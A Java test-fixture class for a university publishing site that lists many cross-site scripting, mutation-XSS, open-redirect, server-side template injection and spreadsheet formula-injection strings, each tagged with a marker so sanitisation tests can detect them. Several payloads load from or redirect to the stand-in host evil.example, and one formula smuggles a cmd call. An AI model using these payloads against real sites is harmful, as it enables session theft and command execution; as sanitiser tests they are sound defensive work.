package edu.wenzhou.site.publishing;

import java.util.ArrayList;
import java.util.List;
import java.util.stream.IntStream;

/**
 * What attackers type, each with a word of its own, and as long as a line may be. They
 * ask for the product of two numbers that stands on no page otherwise.
 */
final class Attacks {

	/** What the words have in common. */
	static final String MARK = "xssmark";

	/** Only ever there because something has been calculated. */
	static final String PRODUCT = "1787569";

	/** A host that no page of ours leads to by itself. */
	static final String HOST = "evil.example";

	private static final List<String> WRITTEN = List.of("<script>alert('@')</script>",
			"<ScRiPt >alert('@')</sCrIpT\t\n >", "<script/x src=//evil.example/@.js></script>",
			"<scr<script>ipt>alert('@')</scr</script>ipt>", "<<script>alert('@')//<</script>",
			"\"><script>alert('@')</script>", "'><script>alert('@')</script>", "</title><script>alert('@')</script>",
			"</textarea><script>alert('@')</script>", "</option></select><script>alert('@')</script>",
			"--><script>alert('@')</script><!--", "]]><script>alert('@')</script><![CDATA[",
			"<![CDATA[<script>alert('@')</script>]]>", "<img src=x onerror=alert('@')>",
			"<img src=\"x\" alt=\"@\" ONERROR\n=\"alert(1)\">", "<p onclick=alert(1)>@</p>",
			"<details open ontoggle=alert(1)>@</details>", "<input autofocus onfocus=alert(1) value=@>",
			"\" onmouseover=\"alert('@')\" x=\"", "' onfocus='alert(1)' autofocus x='@", "` onfocus=`alert(1)` @",
			"<a href=\"javascript:alert('@')\">@</a>", "<a href=\"java\tscript:alert(1)\">@</a>",
			"<a href=\"&#106;avascript&colon;alert(1)\">@</a>", "<a href=\" \u0001javascript:alert(1)\">@</a>",
			"<a href=\"JaVaScRiPt&#x3A;alert(1)//http://\">@</a>", "<a href=\"vbscript:msgbox(1)\">@</a>",
			"<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">@</a>",
			"<a href=\"//evil.example/@\" target=_blank style=\"position:fixed;inset:0\">@</a>",
			"javascript:alert(1)//@", "//evil.example/@", "/\\evil.example/@", "https:evil.example/@",
			"<svg onload=alert(1)>@</svg>", "<svg><a xlink:href=\"javascript:alert(1)\"><text>@</text></a></svg>",
			"<svg><animate attributeName=href values=javascript:alert(1) /></svg>@",
			"<svg><use href=\"data:image/svg+xml,@#x\"/></svg>",
			"<math><maction actiontype=statusline xlink:href=javascript:alert(1)>@</maction></math>",
			"<iframe src=javascript:alert(1)>@</iframe>", "<iframe srcdoc=\"<script>alert('@')</script>\">",
			"<object data=\"data:text/html,@\"></object><embed src=//evil.example/@>",
			"<style>*{background:url(//evil.example/@)}</style>", "<div style=\"width:expression(alert('@'))\">@</div>",
			"<link rel=stylesheet href=//evil.example/@.css>",
			"<meta http-equiv=refresh content=\"0;url=//evil.example/@\">", "<base href=//evil.example/@/>",
			"<form action=//evil.example/@><button formaction=javascript:alert(1)>@</button></form>",
			"<button form=x formaction=//evil.example>@</button>",
			"<noscript><p title=\"</noscript><img src=x " + "onerror=alert(1)>\">@</noscript>",
			"<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert('@')&gt;\">",
			"<svg></p><style><a id=\"</style><img src=1 onerror=alert('@')>\">",
			"<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert('@')>",
			"<p>@<svg><foreignObject><p><style><!--</style><img src=x onerror=alert(1)>--></p>",
			"<template><script>alert('@')</script></template>", "<plaintext>@",
			"<xmp><img src=x onerror=alert('@')></xmp>", "<!--[if gte IE 4]><script>alert('@')</script><![endif]-->",
			"<!-- @", "<?xml version=\"1.0\"?><!ENTITY x \"@\">", "&lt;script&gt;alert('@')&lt;/script&gt;",
			"&amp;lt;script&amp;gt;@", "&#60;img src=x onerror=alert('@')&#62;",
			"\uFF1Cscript\uFF1Ealert('@')\uFF1C/script\uFF1E", "\u202Egpj.@\u202C \u2028\u2029\uFEFF\uFFFE",
			"+ADw-script+AD4-alert('@')+ADw-/script+AD4-", "%3Cscript%3E@%3C/script%3E", "\\u003cscript\\u003e@",
			"<img src=x \u0000onerror=alert('@')>", "\"'<>&@`{}[]()\\", "<@ onclick=alert(1) class=\"a",
			"</div></main></body>@", "__${1337*1337}__::@", "__${T(java.lang.Math).multiplyExact(1337,1337)}__@",
			"[[${1337*1337}]]@", "[(${1337*1337})]@", "${1337*1337}@", "#{@}", "*{1337*1337}@", "~{layout :: page}@",
			"@{/staff(x=${1337*1337})} @", "|${1337*1337}|@",
			"<p th:text=\"${1337*1337}\" data-th-utext=\"${1337*1337}\">@</p>", "#{1337*1337}@",
			"{0} {id} ''{1}'' %s %1$n @", "{{1337*1337}}@", "=1337*1337+cmd|'/c @'!A0");

	/** Of the rich text's own elements, with what must be taken out of them. */
	private static final List<String> RICH = List.of("<h2 id=main_content class=notice onclick=alert(1)>@</h2>",
			"<img src=\"/media/" + "a".repeat(64)
					+ "/a.png\" alt=\"x&quot; onerror=&quot;alert('@')\" onload=alert(1)>",
			"<img src=\"/media/" + "a".repeat(64) + "/../../staff/sign-out?@.png\" alt=\"@\">",
			"<table background=javascript:alert(1)><tr><td style=x:y colspan=\"2 onclick=alert(1)\">@</td></tr></table>",
			"<blockquote cite=\"javascript:alert(1)\">@</blockquote>",
			"<img src=\"/media/" + "a".repeat(64)
					+ "/a.png\" alt=\"[[${1337*1337}]] [[patents-rank-years]] [[\u00A71]]@\">",
			"<a href=\"https://evil.example/@?a=[[patents-rank-years]]&b=[[\u00A71]]\" rel=opener>@</a>");

	private Attacks() {
	}

	/** For texts without markup. */
	static List<String> plain() {
		return marked(WRITTEN, 0);
	}

	/** For bodies. */
	static List<String> rich() {
		List<String> all = new ArrayList<>(plain());
		all.addAll(marked(RICH, WRITTEN.size()));
		return all;
	}

	private static List<String> marked(List<String> texts, int first) {
		return IntStream.range(0, texts.size())
			.mapToObj((i) -> texts.get(i).replaceAll("@(?!\\{/)", MARK + (first + i)))
			.toList();
	}

}
